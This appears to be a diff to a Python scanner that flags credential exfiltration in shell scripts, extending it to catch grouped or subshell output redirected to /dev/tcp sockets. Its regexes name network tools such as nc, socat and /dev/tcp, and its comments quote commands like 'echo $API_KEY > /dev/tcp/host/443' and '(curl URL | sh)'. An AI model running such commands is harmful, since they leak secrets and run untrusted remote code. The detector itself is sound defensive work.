@@ -350,6 +350,25 @@ _STDIN_DATA = rx(r"(?:@-|-T\s*-(?:\s|$)|--upload-file\s+-(?:\s|$)|</dev/stdin|@/
 _LOCAL_DATA = rx(r"(?i)(?:\$\(\s*cat\s*-?\s*\)|\$\(\s*(?:whoami|hostname|id|uname[^)]*|pwd|ls[^)]*|env|printenv)\s*\)|</dev/stdin|\bhistory\b|\bcat\s*(?:\||$|-\s)|\btar\s+[^\n|]*\||\bzip\s+-r|\bfind\s+/|\bgit\s+(?:diff|log|show)\b|\bls\s+-\w*r)")
 _SOCKET_TARGET = rx(r"(?i)(?:\b(?:nc|ncat|netcat|telnet)\s+(?:-\S+\s+)*([a-z0-9][\w.-]*)\s+\d{2,5}|\bs_client\s+(?:-\S+\s+)*-connect\s+([a-z0-9][\w.-]*):\d+|\bsocat\b[^\n]*?tcp4?:([a-z0-9][\w.-]*):\d+)")
 _DEV_TCP_WRITE = rx(r"""(?i)((?:^|[\s;&|({`'"])(?:echo|printf|cat|env|printenv|set)\b[^\n;&|<>]*)\d?>>?\s*/dev/(?:tcp|udp)/([^/\s]+)/\d+""")
+_DEV_TCP_GROUP = rx(r"(?i)[})]\s*\d?>>?\s*/dev/(?:tcp|udp)/([^/\s]+)/\d+")
+
+
+def _group_open(data: bytes, close: int, window: int = 2000) -> int:
+    """Offset of the `{` or `(` that the `}` or `)` at `close` ends (nesting counted, quotes not), or -1:
+    a bounded backward walk, at most `window` bytes."""
+    want, other = (b"{"[0], b"}"[0]) if data[close] == b"}"[0] else (b"("[0], b")"[0])
+    depth = 0
+    for i in range(close, max(-1, close - window), -1):
+        ch = data[i]
+        if ch == other:
+            depth += 1
+        elif ch == want:
+            depth -= 1
+            if depth == 0:
+                return i
+    return -1
+
+
 _INDEX_FLAGS = ("--index-url", "--extra-index-url", "--default-index", "--index", "-i", "--registry", "--find-links", "-f", "--python", "--cache", "--userconfig")
 _INDEX_FLAG = rx(r"(?i)(?:^|\s)(?:--index-url|--extra-index-url|--default-index|--index|-i|--registry|--find-links|-f)[\s=]+['\"]?((?:https?|ftp)://[^\s'\"]+)")
 _URL_LOOSE = rx(r"(?i)\b(?:https?|ftp|wss?)://[^\s'\"`<>]+")
@@ -490,6 +509,8 @@ class _Grader:
             # redirections (`| sh >/dev/null 2>&1`) are not a script name: the shell still runs its stdin
             positional, target = [], False
             for r in rest:
+                if r.startswith((")", "}", "`")):
+                    break  # `(curl URL | sh) >/dev/null`: the subshell or group closes; what follows is not sh's argument
                 redir = r.lstrip("0123456789&").startswith((">", "<"))
                 if not target and not redir and not r.startswith("-"):
                     positional.append(r)
@@ -862,19 +883,25 @@ class _Grader:
                 self.add(K.CRED_EXFIL, s0, s1, f"Data uploaded to a paste or relay service ({host})", Severity.MEDIUM, url, grade, host)
 
     def dev_tcp_writes(self) -> None:
-        """`echo $API_KEY > /dev/tcp/host/443`: bash opens the socket and writes the value to it."""
-        for m in _DEV_TCP_WRITE.finditer(self.data):
-            host = self.text(m, 2).lower()
+        """`echo $API_KEY > /dev/tcp/host/443`: bash opens the socket and writes the value to it. A group
+        or subshell redirected there (`{ cat; env; } > /dev/tcp/h/p`, `( ... ) >/dev/tcp/h/p`) writes
+        everything its commands print: its body is read as the source."""
+        spans = [(m.start(), m.end(), m.group(1), self.text(m, 2).lower()) for m in _DEV_TCP_WRITE.finditer(self.data)]
+        for m in _DEV_TCP_GROUP.finditer(self.data):
+            opener = _group_open(self.data, m.start())
+            if opener >= 0:
+                spans.append((opener, m.end(), self.data[opener:m.start()], self.text(m, 1).lower()))
+        for b0, b1, body, host in spans:
             if _private(host):
                 continue
             names = [n for n in (next((x for x in g.groups() if x), b"").decode("utf-8", "replace")
-                                 for g in _SECRET_VAR.finditer(m.group(1))) if c.is_secret_env_name(n)]
-            source = _CRED_COMMAND.search(m.group(1)) is not None or _ENV_DUMP.search(m.group(1)) is not None
+                                 for g in _SECRET_VAR.finditer(body)) if c.is_secret_env_name(n)]
+            source = _CRED_COMMAND.search(body) is not None or _ENV_DUMP.search(body) is not None
             if names or source:
-                self.add(K.CRED_EXFIL, m.start(), m.end(), f"{names[0] if names else 'A credential'} is written to a raw socket ({host})",
+                self.add(K.CRED_EXFIL, b0, b1, f"{names[0] if names else 'A credential'} is written to a raw socket ({host})",
                          Severity.CRITICAL, f"tcp://{host}", "ip" if H.is_ip(host) else "unknown", host)
             elif self.unattended:
-                self.add(K.HOST_DATA_EXFIL, m.start(), m.end(), f"Data is written to a raw socket ({host})", Severity.HIGH, f"tcp://{host}", "", host)
+                self.add(K.HOST_DATA_EXFIL, b0, b1, f"Data is written to a raw socket ({host})", Severity.HIGH, f"tcp://{host}", "", host)
 
     def _piped_between(self, a: int, b: int) -> bool:
         """Is the source's output piped into the sink (a `|` between them, not `||`)?"""
